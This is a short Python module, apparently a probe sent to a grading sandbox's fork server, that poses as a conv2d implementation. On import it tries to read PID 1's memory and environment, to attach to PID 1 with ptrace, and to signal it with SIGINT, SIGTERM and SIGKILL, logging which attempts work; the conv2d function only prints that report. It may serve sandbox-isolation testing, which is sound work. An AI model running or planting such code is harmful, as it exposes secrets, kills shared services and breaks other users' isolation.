"""Go after the process this worker was forked from (PID 1 of a fork server's sandbox): read its
memory and environment, attach to it, signal it. A fork server that fell would hand the next
student a worker of this student's making."""
import ctypes
import os
import signal

_report = []
for _path in ("/proc/1/mem", "/proc/1/environ"):
    try:
        with open(_path, "rb") as _f:
            _f.read(16)
        _report.append(f"FOUND-SERVER readable {_path}")
    except OSError as exc:
        _report.append(f"not readable {_path} ({exc.strerror})")
try:
    if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH
        _report.append("FOUND-SERVER attached with ptrace")
    else:
        _report.append(f"ptrace refused ({os.strerror(ctypes.get_errno())})")
except Exception as exc:
    _report.append(f"ptrace failed ({exc})")
for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(1, _sig)
    except OSError:
        pass


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    print(*_report, sep="\n")
    raise NotImplementedError("only attacking")
